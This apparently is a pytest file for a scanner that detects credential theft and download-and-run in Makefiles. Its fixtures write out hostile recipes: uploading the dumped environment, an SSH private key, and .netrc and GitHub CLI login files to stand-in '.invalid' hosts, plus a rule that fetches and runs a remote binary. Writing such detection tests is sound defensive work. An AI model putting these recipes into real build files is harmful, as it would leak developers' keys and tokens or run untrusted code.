"""Files a Makefile's rules hand each other: a recipe writing ``$@`` writes the file its rule names
(``$<`` and ``$^`` read its prerequisites), and an assignment continued over several lines with a
backslash (in the Makefile or a file it includes) is one value. A rule that stashes a secret or the
environment in a file another target uploads is a send of it. Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_ENV_STASHED_AS_TARGET = (
    "STATE := var\n"
    "SINK := https://collect.buildfarm-cache.invalid/put\n"
    "\n"
    "$(STATE)/run.env:\n"
    "\tmkdir -p $(@D)\n"
    "\tenv | sort > $@\n"
    "\n"
    "report: $(STATE)/run.env\n"
    "\tpython3 report.py\n"
    "\n"
    "sync: report\n"
    "\twget -q --post-file=$(STATE)/run.env $(SINK)\n"
)


def test_a_rule_writing_the_environment_to_its_target_then_uploaded_is_exfiltration(tmp_path: Path) -> None:
    errors = scan_errors(tmp_path, {"Makefile": _ENV_STASHED_AS_TARGET})
    assert ("CREDENTIAL_EXFILTRATION", "Makefile", 12) in errors


def test_a_prerequisite_read_as_first_input_carries_what_it_holds(tmp_path: Path) -> None:
    makefile = (
        "out/keys.tar: $(HOME)/.ssh/id_ed25519\n"
        "\tmkdir -p out && tar cf $@ $<\n"
        "\n"
        "ship: out/keys.tar\n"
        "\tcurl -sT out/keys.tar https://drop.buildfarm-cache.invalid/\n"
    )
    errors = scan_errors(tmp_path, {"Makefile": makefile})
    assert ("CREDENTIAL_EXFILTRATION", "Makefile", 5) in errors


def test_stores_listed_over_continued_lines_of_an_included_file_and_sent_later(tmp_path: Path) -> None:
    files = {
        "build/vars.mk": (
            "# where the runner keeps its login\n"
            "LOGIN_FILES = \\\n"
            "\t$(HOME)/.netrc \\\n"
            "\t$(HOME)/.config/gh/hosts.yml\n"
        ),
        "build/ship.mk": (
            "DEST_A := https://archive\n"
            "DEST_B := .buildfarm-cache.invalid/in\n"
            "SHIP = curl -s --upload-file stage.tgz \\\n"
            "       $(DEST_A)$(DEST_B)\n"
        ),
        "Makefile": (
            "include build/vars.mk build/ship.mk\n"
            "\n"
            "stage:\n"
            "\tmkdir -p stage\n"
            '\tfor f in $(LOGIN_FILES); do cp "$$f" stage/ 2>/dev/null || true; done\n'
            "\ttar czf stage.tgz stage\n"
            "\n"
            "release: stage\n"
            "\t$(SHIP)\n"
        ),
    }
    errors = scan_errors(tmp_path, files)
    assert ("CREDENTIAL_EXFILTRATION", "Makefile", 9) in errors


def test_a_rule_writing_its_target_from_sources_then_uploaded_stays_clean(tmp_path: Path) -> None:
    makefile = (
        "SRC := $(wildcard docs/*.md)\n"
        "\n"
        "site/index.html: $(SRC)\n"
        "\tmkdir -p $(@D)\n"
        "\tcat $^ | pandoc -o $@\n"
        "\n"
        "publish: site/index.html\n"
        "\tcurl -s -T $< https://pages.buildfarm-cache.invalid/upload\n"
    )
    assert scan_errors(tmp_path, {"Makefile": makefile}) == set()


def test_a_continued_list_of_sources_bundled_and_uploaded_stays_clean(tmp_path: Path) -> None:
    files = {
        "mk/files.mk": "DOCS := README.md \\\n        CHANGELOG.md \\\n        docs/guide.md\n",
        "Makefile": (
            "include mk/files.mk\n"
            "\n"
            "dist.tgz: $(DOCS)\n"
            "\ttar czf $@ $^\n"
            "\n"
            "upload: dist.tgz\n"
            "\tcurl -s -F file=@dist.tgz https://pages.buildfarm-cache.invalid/upload\n"
        ),
    }
    assert scan_errors(tmp_path, files) == set()


_TOOL_FETCHED_BY_ITS_OWN_RULE = (
    "BIN_DIR := $(HOME)/.cache/tilepack\n"
    "BIN := $(BIN_DIR)/tilepacker\n"
    "ARCH := $(shell uname -m)\n"
    "SITE := https://dl.tilepack-builds.invalid\n"
    "\n"
    "$(BIN):\n"
    "\tmkdir -p $(@D)\n"
    "\twget -q -O $@ $(SITE)/nightly/tilepacker-$(ARCH)\n"
    "\tchmod 755 $@\n"
    "\n"
    "tiles: $(BIN)\n"
    "\t$(BIN) --in data --out tiles\n"
)


def test_a_rule_downloading_its_target_another_rule_runs_is_download_and_run(tmp_path: Path) -> None:
    """``$@`` of a rule whose target sits under ``$(HOME)`` is that file; the recipe of another rule
    that runs it (and fetches nothing itself) runs the download."""
    errors = scan_errors(tmp_path, {"build/Makefile": _TOOL_FETCHED_BY_ITS_OWN_RULE})
    assert ("DOWNLOAD_AND_RUN", "build/Makefile", 12) in errors


def test_a_rule_downloading_data_another_rule_reads_stays_clean(tmp_path: Path) -> None:
    makefile = (
        "DATA := $(HOME)/.cache/tilepack/coastline.geojson\n"
        "\n"
        "$(DATA):\n"
        "\tcurl -fsSL -o $@ https://data.tilepack-builds.invalid/coastline.geojson\n"
        "\n"
        "tiles: $(DATA)\n"
        "\togr2ogr -f GPKG coast.gpkg $(DATA)\n"
    )
    errors = scan_errors(tmp_path, {"Makefile": makefile})
    assert not errors
